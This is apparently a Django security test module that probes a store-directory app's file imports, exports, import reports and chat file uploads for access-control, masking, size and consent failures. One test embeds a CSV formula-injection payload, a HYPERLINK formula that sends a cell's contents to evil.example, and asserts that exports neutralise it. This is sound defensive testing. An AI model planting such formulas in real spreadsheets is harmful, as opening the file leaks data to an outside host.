"""Directed attacks on the doors beside the conversation: files sent in, reports of imports, pages and files out."""

from typing import Any
from uuid import UUID, uuid4

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings

from accounts import passphrase, unlock
from conversations.engine.contract import FileContext
from conversations.engine.registry import skills_of
from conversations.files import SentFile, _give
from conversations.tests.hostile.assaults import on, save
from conversations.tests.hostile.model_assaults import ASSAULTS
from conversations.tests.hostile.people import Person
from conversations.tests.hostile.watching import holds_number
from conversations.tests.talking import Talk
from stores import actions
from stores.exporting.actions import export_stores
from stores.importing import jobs
from stores.importing.layout import UnreadableFile
from stores.importing.models import ImportJob, SameName
from stores.importing.reports import rejected_csv
from stores.listing import find
from stores.models import Store

__all__ = ["ASSAULTS"]  # with those of this module


def rows_of(person: Person) -> str:
    """A file of a store of theirs, and one whose name has a number in it."""
    return f"Name,Phone\n{person.names[0]},{person.numbers[0]}\nRing {person.numbers[1]} Plumbing,{person.numbers[1]}\n"


def upload(person: Person, text: str | bytes, name: str = "stores.csv") -> ImportJob:
    content = text.encode() if isinstance(text, str) else text
    user_id = person.user.pk
    return jobs.upload(user_id, name, content, region="US", source="web", actor=user_id)


def browser_of(person: Person) -> Client:
    client = Client()
    client.force_login(person.user)
    return client


def unlock_in(client: Client, person: Person) -> None:
    """As if the person had given their passphrase in this browser."""
    passphrase.verify(person.user.pk, person.secret, unlock.session_holder(client.session.session_key), "web")


def imported(person: Person, text: str) -> ImportJob:
    """A file that was imported, as the worker does it."""
    job = upload(person, text)
    how: Any = {"source": "web", "actor": person.user.pk}
    jobs.start(job, SameName.REJECT, unlocked=False, **how)
    jobs.run(str(job.pk))
    return ImportJob.objects.get(pk=job.pk)


# Files out --------------------------------------------------------------------------------------------------------


@on("passphrase.export")
def no_directory_leaves_while_locked(alice: Person, bob: Person) -> None:
    save(alice)
    with pytest.raises(actions.StoreError):
        export_stores(alice.user.pk, "csv", unlocked=False, source="web", actor=alice.user.pk)


@on("owner.export")
def nobody_takes_the_directory_of_others(alice: Person, bob: Person) -> None:
    save(alice)
    for actor in (bob.user.pk, None):
        with pytest.raises(actions.StoreError):
            export_stores(alice.user.pk, "csv", unlocked=True, source="web", actor=actor)


@on("markup.formulas")
def no_spreadsheet_runs_what_a_name_or_a_rejected_row_says(alice: Person, bob: Person) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    actions.save_store(alice.user.pk, name=formula, phone_e164="+14155550176", source="web", actor=alice.user.pk)
    with export_stores(alice.user.pk, "csv", unlocked=True, source="web", actor=alice.user.pk).file as file:
        assert '"=HYPERLINK' not in file.read().decode()
    job = imported(alice, f"Name,Phone\nShop,206-555-0114\n{formula.replace(chr(34), '')},12\n")
    assert '"=HYPERLINK' not in "".join(rejected_csv(job))


# What is shown of imports -----------------------------------------------------------------------------------------


@on("passphrase.report")
def locked_nobody_learns_what_became_of_an_import(alice: Person, bob: Person) -> None:
    job = imported(alice, rows_of(alice))
    page = browser_of(alice).get(f"/stores/import/{job.pk}/").content.decode()
    assert str(job.batch) not in page
    assert alice.names[0] not in page
    browser_of(alice).post(f"/stores/import/{job.pk}/undo/")
    assert Store.objects.for_user(alice.user.pk).count() == 2


@on("mask.phone", "mask.text")
def locked_a_file_to_be_confirmed_shows_no_number(alice: Person, bob: Person) -> None:
    job = upload(alice, rows_of(alice), name=f"call {alice.numbers[2]}.csv")
    browser = browser_of(alice)
    for page in (f"/stores/import/{job.pk}/", "/stores/import/"):
        shown = browser.get(page).content.decode()
        assert not any(holds_number(shown, number) for number in alice.numbers), page


@on("passphrase.search")
def locked_no_number_finds_its_store(alice: Person, bob: Person) -> None:
    save(alice)
    assert not find(alice.user.pk, "0176", unlocked=False, region="US").stores
    assert alice.names[0] not in browser_of(alice).get("/stores/", {"q": "0176"}).content.decode()


# What an import does ----------------------------------------------------------------------------------------------


@on("passphrase.import")
def locked_an_import_replaces_nothing(alice: Person, bob: Person) -> None:
    job = upload(alice, rows_of(alice))
    with pytest.raises(jobs.ImportRefused):
        jobs.start(job, SameName.UPDATE, unlocked=False, source="web", actor=alice.user.pk)


@on("owner.import_changes")
def nobody_imports_in_the_name_of_others(alice: Person, bob: Person) -> None:
    job = upload(alice, rows_of(alice))
    how: Any = {"source": "web", "actor": bob.user.pk}
    with pytest.raises(jobs.ImportRefused):
        jobs.start(job, SameName.REJECT, unlocked=False, **how)
    with pytest.raises(jobs.ImportRefused):
        jobs.cancel(job, **how)
    with pytest.raises(jobs.ImportRefused):
        jobs.upload(alice.user.pk, "x", b"a,415-555-0176", region="US", **how)


@on("owner.imports")
def nobody_finds_the_imports_of_others(alice: Person, bob: Person) -> None:
    waiting, done = upload(alice, rows_of(alice), name="hers.csv"), imported(alice, rows_of(alice))
    intruder = browser_of(bob)
    unlock_in(intruder, bob)
    for job in (waiting, done):
        for part in ("", "card/", "check/", "rejected.csv"):
            assert intruder.get(f"/stores/import/{job.pk}/{part}").status_code == 404, part
        for part in ("start/", "cancel/", "undo/", "correct/"):
            assert intruder.post(f"/stores/import/{job.pk}/{part}").status_code == 404, part
    assert "hers.csv" not in intruder.get("/stores/import/").content.decode()


@on("file.kind")
def a_file_that_is_none_of_text_is_not_read(alice: Person, bob: Person) -> None:
    for content in (b"PK\x03\x04" + rows_of(alice).encode(), b"a,b\n" * 1_000_000):
        with pytest.raises(UnreadableFile):
            upload(alice, content)


@on("file.rows")
def a_file_has_an_end(alice: Person, bob: Person) -> None:
    with override_settings(IMPORT_MAX_ROWS=1), pytest.raises(UnreadableFile):
        upload(alice, rows_of(alice))


# In the chat ------------------------------------------------------------------------------------------------------


def drop(talk: Talk, text: str, name: str = "stores.csv") -> None:
    """Send a file by the page's form."""
    browser = Client()
    browser.force_login(talk.user)
    form = {"file": SimpleUploadedFile(name, text.encode()), "key": str(uuid4())}
    response = browser.post(f"/c/{talk.conversation_id}/files/", form)
    assert response.status_code == 302, response.content
    talk.conversation_id = UUID(response.headers["Location"].split("/")[2])


@on("consent.import")
def nothing_is_imported_without_a_yes(alice: Person, bob: Person) -> None:
    talk = alice.talk()
    drop(talk, rows_of(alice))
    assert talk.turn.status == "done"
    assert ImportJob.objects.get().status == "uploaded"
    assert talk.flow == "awaiting_import_confirmation"


@on("passphrase.decide_import")
def locked_a_dropped_file_replaces_nothing_without_the_passphrase(alice: Person, bob: Person) -> None:
    talk = save(alice)
    drop(talk, rows_of(alice))
    talk.say("update existing too")
    assert (talk.turn.status, talk.flow) == ("done", "awaiting_passphrase_for_import")


@on("file.size")
def a_file_that_is_too_large_is_not_even_read(alice: Person, bob: Person) -> None:
    talk = alice.talk()

    def read() -> bytes:
        pytest.fail("it was read")

    context = FileContext(talk.principal, str(talk.conversation_id), "")
    taken = _give(skills_of(["stores"]), SentFile("a.csv", "text/csv", 10**9, read), "a.csv", context)
    assert taken.refusal
